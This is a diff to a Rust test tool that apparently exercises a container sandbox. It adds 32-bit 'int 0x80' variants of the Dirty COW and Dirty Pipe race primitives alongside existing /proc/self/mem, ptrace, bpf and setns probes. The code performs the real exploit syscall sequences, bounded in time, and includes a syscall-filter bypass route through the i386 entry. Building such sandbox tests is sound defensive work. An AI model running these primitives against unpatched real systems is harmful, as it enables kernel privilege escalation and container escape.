@@ -3,8 +3,8 @@
 //! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
-//! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE |
-//!        dirtypipe-via writev|fork|reopen|tee|splice FILE | procmem | procmem-dup-pwritev |
+//! Usage: primitives <dirtycow FILE | dirtycow-via int80 FILE | dirtycow-ptrace FILE | dirtypipe FILE |
+//!        dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE | procmem | procmem-dup-pwritev |
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
 //!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
@@ -29,6 +29,11 @@ fn fail(what: &str) -> ! {
 /// FILE mapped read-only and private, the target both Dirty COW variants race on: (address,
 /// length). The mapping stays for the life of the process.
 fn map_readonly_private(path: &str) -> (usize, usize) {
+    map_readonly_private_with(path, 0)
+}
+
+/// [`map_readonly_private`] with extra mmap `flags` (MAP_32BIT for the 32-bit entry).
+fn map_readonly_private_with(path: &str, flags: libc::c_int) -> (usize, usize) {
     let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
     let len = file.metadata().map(|m| m.len()).unwrap_or(0).max(1) as usize;
     // SAFETY: mapping a file we opened; callers touch the mapping only through madvise,
@@ -38,7 +43,7 @@ fn map_readonly_private(path: &str) -> (usize, usize) {
             std::ptr::null_mut(),
             len,
             libc::PROT_READ,
-            libc::MAP_PRIVATE,
+            libc::MAP_PRIVATE | flags,
             file.as_raw_fd(),
             0,
         )
@@ -53,32 +58,105 @@ fn map_readonly_private(path: &str) -> (usize, usize) {
 /// writes into the mapping through /proc/self/mem.
 fn dirtycow(path: &str) {
     let (addr, len) = map_readonly_private(path);
+    let mem = open_self_mem();
+    dirtycow_race(
+        "dirtycow",
+        addr,
+        // SAFETY: our own mapping.
+        move || unsafe {
+            libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED);
+        },
+        move || {
+            let _ = mem.write_at(b"m00", addr as u64);
+        },
+    );
+}
+
+/// Dirty COW entirely through the 32-bit entry (`how` = `int80`): i386 madvise (219) with
+/// MADV_DONTNEED_LOCKED (24) and i386 pwrite64 (181) into /proc/self/mem, the mapping and the
+/// written bytes below 4 GiB.
+#[cfg(target_arch = "x86_64")]
+fn dirtycow_via(how: &str, path: &str) {
+    if how != "int80" {
+        fail("dirtycow-via: int80");
+    }
+    const MADV_DONTNEED_LOCKED: i64 = 24;
+    let (addr, len) = map_readonly_private_with(path, libc::MAP_32BIT);
+    let buf = low_page();
+    // SAFETY: a page of our own.
+    unsafe { std::ptr::copy_nonoverlapping(b"m00".as_ptr(), buf, 3) };
+    let mem = open_self_mem();
+    let fd = i64::from(mem.as_raw_fd());
+    dirtycow_race(
+        "dirtycow-via int80",
+        addr,
+        move || {
+            i386_syscall(219, [addr as i64, len as i64, MADV_DONTNEED_LOCKED, 0, 0]);
+        },
+        move || {
+            let off = addr as i64;
+            i386_syscall(181, [fd, buf as i64, 3, off & 0xffff_ffff, off >> 32]);
+            let _ = &mem;
+        },
+    );
+}
+
+/// A page below 4 GiB, readable and writable, for the 32-bit entry's pointer arguments.
+#[cfg(target_arch = "x86_64")]
+fn low_page() -> *mut u8 {
+    // SAFETY: an anonymous mapping of our own.
+    let low = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            4096,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
+            -1,
+            0,
+        )
+    };
+    if low == libc::MAP_FAILED {
+        fail("mmap MAP_32BIT");
+    }
+    low.cast()
+}
+
+fn open_self_mem() -> std::fs::File {
+    OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"))
+}
+
+/// The race of every Dirty COW variant: a thread runs `discard` while this one runs
+/// `force_write`, each up to 200 times, 1 ms apart, for at most 500 ms.
+fn dirtycow_race(
+    name: &str,
+    addr: usize,
+    discard: impl Fn() + Send + 'static,
+    force_write: impl Fn(),
+) {
     static STOP: AtomicBool = AtomicBool::new(false);
-    let discard = thread::spawn(move || {
+    let discarder = thread::spawn(move || {
         let mut n = 0u64;
         while !STOP.load(Ordering::Relaxed) && n < 200 {
-            // SAFETY: our own mapping.
-            unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
+            discard();
             n += 1;
             thread::sleep(Duration::from_millis(1));
         }
         n
     });
-    let mem = OpenOptions::new()
-        .read(true)
-        .write(true)
-        .open("/proc/self/mem")
-        .unwrap_or_else(|_| fail("open /proc/self/mem"));
     let start = Instant::now();
     let mut writes = 0u64;
     while start.elapsed() < Duration::from_millis(500) && writes < 200 {
-        let _ = mem.write_at(b"m00", addr as u64);
+        force_write();
         writes += 1;
         thread::sleep(Duration::from_millis(1));
     }
     STOP.store(true, Ordering::Relaxed);
-    let discards = discard.join().unwrap_or(0);
-    println!("dirtycow: {discards} discards, {writes} forced writes at {addr:#x}");
+    let discards = discarder.join().unwrap_or(0);
+    println!("{name}: {discards} discards, {writes} forced writes at {addr:#x}");
 }
 
 /// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
@@ -127,6 +205,13 @@ fn dirtypipe_via(how: &str, path: &str) {
                 }
                 libc::write(fd, byte.as_ptr().cast(), 1)
             }
+            // write(2) through the 32-bit entry (i386 write is 4), the byte below 4 GiB.
+            #[cfg(target_arch = "x86_64")]
+            "int80" => {
+                let low = low_page();
+                *low = byte[0];
+                i386_syscall(4, [i64::from(fds[1]), low as i64, 1, 0, 0]) as isize
+            }
             "tee" | "splice" => {
                 let mut second = [0i32; 2];
                 if libc::pipe(second.as_mut_ptr()) != 0 {
@@ -149,7 +234,7 @@ fn dirtypipe_via(how: &str, path: &str) {
                 }
                 libc::write(second[1], byte.as_ptr().cast(), 1)
             }
-            _ => fail("dirtypipe-via: writev, fork, reopen, tee or splice"),
+            _ => fail("dirtypipe-via: writev, fork, reopen, tee, splice or int80"),
         }
     };
     if n != 1 {
@@ -606,27 +691,7 @@ fn int80(nr: &str, args: &[String]) {
             None => parse_number(a),
         };
     }
-    let ret: i64;
-    // SAFETY: int 0x80 with eax=nr and ebx, ecx, edx, esi, edi the arguments; every pointer
-    // among them points into the page above.
-    unsafe {
-        // rbx is LLVM's: the first argument goes in through another register, swapped in and
-        // back.
-        std::arch::asm!(
-            "xchg {a0}, rbx",
-            "int 0x80",
-            "xchg {a0}, rbx",
-            a0 = inout(reg) regs[0] => _,
-            inlateout("rax") nr => ret,
-            in("rcx") regs[1],
-            in("rdx") regs[2],
-            in("rsi") regs[3],
-            in("rdi") regs[4],
-            options(nostack),
-        );
-    }
-    // The i386 return value is the low 32 bits, sign-extended.
-    let ret = i64::from(ret as i32);
+    let ret = i386_syscall(nr, regs);
     if ret < 0 {
         println!(
             "int80 {nr} = {ret} ({})",
@@ -736,6 +801,32 @@ fn fsmount_read(dev: &str, fstype: &str, file: &str) {
     println!("fsmount-read: read {n} bytes through a detached mount");
 }
 
+/// i386 syscall `nr` through `int 0x80` with ebx, ecx, edx, esi, edi = `regs` (pointers among
+/// them must be below 4 GiB); the result, sign-extended from its low 32 bits.
+#[cfg(target_arch = "x86_64")]
+fn i386_syscall(nr: i64, regs: [i64; 5]) -> i64 {
+    let ret: i64;
+    // SAFETY: int 0x80 with eax=nr and the argument registers; the kernel reads only what the
+    // syscall's arguments point to, which the caller placed below 4 GiB.
+    unsafe {
+        // rbx is LLVM's: the first argument goes in through another register, swapped in and
+        // back.
+        std::arch::asm!(
+            "xchg {a0}, rbx",
+            "int 0x80",
+            "xchg {a0}, rbx",
+            a0 = inout(reg) regs[0] => _,
+            inlateout("rax") nr => ret,
+            in("rcx") regs[1],
+            in("rdx") regs[2],
+            in("rsi") regs[3],
+            in("rdi") regs[4],
+            options(nostack),
+        );
+    }
+    i64::from(ret as i32)
+}
+
 /// A decimal, 0x-hex or 0-octal number (as in C).
 fn parse_number(text: &str) -> i64 {
     let parsed = if let Some(hex) = text.strip_prefix("0x") {
@@ -827,6 +918,8 @@ fn main() {
         Some("procmem-dup-pwritev") => procmem_dup_pwritev(),
         Some("procmem-inherited") => procmem_inherited(),
         Some("dirtypipe-via") => dirtypipe_via(&arg(2), &arg(3)),
+        #[cfg(target_arch = "x86_64")]
+        Some("dirtycow-via") => dirtycow_via(&arg(2), &arg(3)),
         Some("benign-writes") => benign_writes(),
         Some("pvwritev") => write_child(true),
         Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
@@ -850,7 +943,7 @@ fn main() {
         ),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own PATH SECS>"
+                "usage: primitives <dirtycow FILE|dirtycow-via int80 FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own PATH SECS>"
             );
             exit(2);
         }
